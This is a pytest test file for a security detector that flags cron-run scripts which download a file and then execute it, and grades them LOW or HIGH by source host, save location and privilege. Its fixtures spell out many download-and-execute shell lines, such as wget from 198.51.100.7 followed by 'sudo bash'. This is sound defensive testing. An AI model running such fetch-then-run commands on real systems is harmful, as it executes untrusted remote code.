import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemostat.detect.check import claims_of
from hemostat.detect.checks.script_fetched_then_run import fetched_then_run
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, Observable
from hemostat.model.host import Scope
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.record_set import RecordSet
from hemostat.model.records import Mechanism, ScriptLine, Startup


def claims(*commands: str, paths: tuple[str, ...] = (), scope: Scope = Scope()) -> list[Claim]:
    records = RecordSet()
    for number, command in enumerate(commands, 1):
        path = HostPath(paths[number - 1] if paths else "/opt/s")
        records.add(
            [
                ScriptLine(
                    source=Source(path=path, line=number),
                    path=path,
                    started_by=HostPath("/etc/cron.d/x"),
                    mechanism="cron",
                    technique="T1053.003",
                    command=command,
                    scope=scope,
                )
            ]
        )
    return list(claims_of(fetched_then_run, records.of, fetched_then_run.examples[0].context))


@pytest.mark.requirement("B5.4", "A4.13")
def test_the_worked_case_is_named_with_script_job_and_address() -> None:
    (claim,) = claims("wget -q http://198.51.100.7/mservice.sh", "sudo bash mservice.sh 10014")
    assert [(each.kind, each.value) for each in claim.subjects] == [
        ("file", "/opt/s"),
        ("cron_job", "/etc/cron.d/x"),
    ]
    assert claim.attack == ("T1053.003",)
    assert Observable("ipv4-addr", "198.51.100.7") in claim.observables
    assert claim.values["where"] == "/opt/s:2"
    assert claim.values["file"] == "mservice.sh"
    assert claim.values["download"] == "wget -q http://198.51.100.7/mservice.sh"
    assert len(claim.because) == 2


@pytest.mark.parametrize(
    ("fetch", "run"),
    [
        ("curl -O http://x.example/a.sh", "sh a.sh"),
        ("curl -fsSLO http://x.example/a.sh?v=1", ". ./a.sh"),
        ("curl -so /opt/b http://x.example/a", "/opt/b &"),
        ("curl --output=/opt/b http://x.example/a", "setsid /opt/b"),
        ('wget "http://x.example/a" -qO "$DIR/run.sh"', 'bash "$DIR/run.sh"'),
        ("if ! curl -s http://x.example/a >/opt/b; then exit 1; fi", "if true; then /opt/b; fi"),
        ("axel -o k.py http://x.example/k", "/usr/bin/python3 -u k.py"),
        ("aria2c --out=k http://x.example/k", "./k"),
    ],
)
def test_each_way_to_save_and_to_run_is_seen(fetch: str, run: str) -> None:
    assert len(claims(fetch, "chmod +x x", run)) == 1


@pytest.mark.parametrize(
    ("fetch", "run"),
    [
        ("curl http://x.example/a.sh", "sh a.sh"),
        ("curl -o /opt/b http://x.example/a", "cat /opt/b"),
        ("echo http://x.example/a.sh", "sh a.sh"),
        ("wget -qO- http://x.example/a.sh", "sh -"),
        ("curl -o /opt/b http://x.example/a", "sh -c date"),
    ],
)
def test_what_is_not_saved_or_not_run_is_quiet(fetch: str, run: str) -> None:
    assert claims(fetch, run) == []


def test_lines_of_two_files_are_not_joined() -> None:
    two = ("curl -O http://x.example/a.sh", "sh a.sh")
    assert claims(*two, paths=("/opt/a", "/opt/b")) == []
    assert claims(*two, paths=("/opt/a", "/opt/a"))


def test_the_scope_is_that_of_the_lines() -> None:
    scope = Scope("container", "abc")
    (claim,) = claims("curl -O http://x.example/a.sh", "sh a.sh", scope=scope)
    assert claim.scope == scope


@given(
    st.lists(st.text(st.sampled_from("curl -Oo>$/{}&;|\n'\"ash.w:=?x"), max_size=60), max_size=4)
)
def test_any_lines_are_taken(commands: list[str]) -> None:
    assert len(claims(*commands)) <= 60 * 4


RAW = "https://raw.githubusercontent.com/Example/Tool/main/core.sh"


def level_of(
    *commands: str, path: str = "/home/u/tool", account: str = "u", rooted: str = ""
) -> Level:
    """Of a person's script; `rooted` is a program root's crontab starts."""
    place = HostPath(path)
    records = RecordSet(
        ScriptLine(
            source=Source(path=place, line=number), path=place, account=account, command=command
        )
        for number, command in enumerate(commands, 1)
    )
    job = HostPath("/etc/cron.d/a")
    records.add(
        [
            Startup(
                mechanism=Mechanism.CRON,
                source=Source(path=job),
                place=job,
                command=rooted,
                programs=(HostPath(rooted),),
                is_privileged=True,
            )
        ]
    )
    (claim,) = claims_of(fetched_then_run, records.of, fetched_then_run.examples[0].context)
    return claim.level or fetched_then_run.info.level


@pytest.mark.parametrize(
    "commands",
    [
        (f"curl -s -L -o lib/core.sh {RAW} && chmod +x lib/core.sh", "source lib/core.sh"),
        (f"wget -q {RAW}", "bash core.sh 2>&1"),
        ('cd "$(dirname "$0")"', f'curl -o "$HOME/lib/core.sh" "{RAW}"', ". ~/lib/core.sh"),
        ('get() { curl -fsSL "' + RAW + '" -o "$2" && chmod +x "$2" && source "$2"; }',),
        ("cd ~/lib && pwd", f"curl -fsSLO {RAW}", "./core.sh && echo ok"),
    ],
)
def test_a_persons_tool_that_fetches_its_own_published_parts_is_low(
    commands: tuple[str, ...],
) -> None:
    assert level_of(*commands) is Level.LOW


@pytest.mark.parametrize(
    "commands",
    [
        ("curl -o lib/core.sh http://raw.githubusercontent.com/a/b/core.sh", ". lib/core.sh"),
        ("curl -o lib/core.sh https://198.51.100.7/core.sh", ". lib/core.sh"),
        ("curl -o lib/core.sh https://x.example/core.sh", ". lib/core.sh"),
        ("curl -o lib/core.sh https://github.com.x.example/core.sh", ". lib/core.sh"),
        ("curl -o lib/core.sh https://github.com@x.example/core.sh", ". lib/core.sh"),
        ("curl -o lib/core.sh $URL", ". lib/core.sh"),
        (f"curl -k -o lib/core.sh {RAW}", ". lib/core.sh"),
        (f"wget --no-check-certificate {RAW}", "sh core.sh"),
        (f"curl -o /tmp/core.sh {RAW}", ". /tmp/core.sh"),
        (f"curl -o ../../v/core.sh {RAW}", ". ../../v/core.sh"),
        (f"curl -o /home/v/core.sh {RAW}", ". /home/v/core.sh"),
        (f"curl -o .x/core.sh {RAW}", ". .x/core.sh"),
        (f'curl -o "$T" {RAW}', '. "$T"'),
        ("cd /dev/shm", f"curl -O {RAW}", "sh core.sh"),
        ('cd "$(mktemp -d)"', f"curl -O {RAW}", "sh core.sh"),
        (f"curl -O {RAW}", "nohup ./core.sh"),
        (f"curl -O {RAW}", "./core.sh >/dev/null 2>&1 &"),
        (f"curl -O {RAW}", "curl -O http://198.51.100.7/core.sh", "./core.sh"),
        ("curl -O http://198.51.100.7/core.sh", f"curl -O {RAW}", "./core.sh"),
    ],
)
def test_any_other_address_place_or_way_to_run_stays_high(commands: tuple[str, ...]) -> None:
    assert level_of(*commands) is Level.HIGH


@pytest.mark.parametrize(
    "other",
    [
        {"path": "/opt/tool"},
        {"path": "/home/u/.x/tool"},
        {"path": "/root/tool", "account": "root"},
        {"account": "root"},
        {"account": "v"},
        {"account": ""},
        {"rooted": "/home/u/tool"},
    ],
)
def test_a_script_of_roots_or_outside_the_own_home_stays_high(other: dict[str, str]) -> None:
    assert level_of(f"curl -O {RAW}", "sh core.sh", **other) is Level.HIGH
